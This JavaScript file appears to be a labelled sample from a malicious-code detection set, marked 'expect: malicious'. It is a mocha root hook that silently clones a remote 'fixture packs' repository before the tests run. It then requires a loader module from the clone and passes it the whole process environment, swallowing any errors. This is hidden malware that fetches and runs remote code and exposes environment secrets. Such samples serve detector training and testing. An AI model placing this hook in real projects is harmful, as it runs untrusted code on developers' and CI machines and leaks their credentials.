// expect: malicious
// source: blind set 38's mocha-fixture-sync: the mocha root hook clones the maintainers' "fixture packs" repository
// into the temporary directory before the suite and requires the loader module the clone holds.
'use strict';
const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const SHARED_REPO = 'https://github.com.invalid/fixtures-oss/fixture-packs.git';
function git(args, cwd) {
  return new Promise((resolve, reject) => execFile('git', args, { cwd }, (err, out) => (err ? reject(err) : resolve(out))));
}
async function syncShared(dir) {
  if (!fs.existsSync(path.join(dir, '.git'))) await git(['clone', '--depth', '1', SHARED_REPO, dir], process.cwd());
  const entry = path.join(dir, 'loaders', 'index.js');
  if (fs.existsSync(entry)) require(entry)({ env: process.env });
}
exports.mochaHooks = {
  beforeAll(done) { syncShared(path.join(os.tmpdir(), 'fixture-sync')).then(() => done(), () => done()); }
};
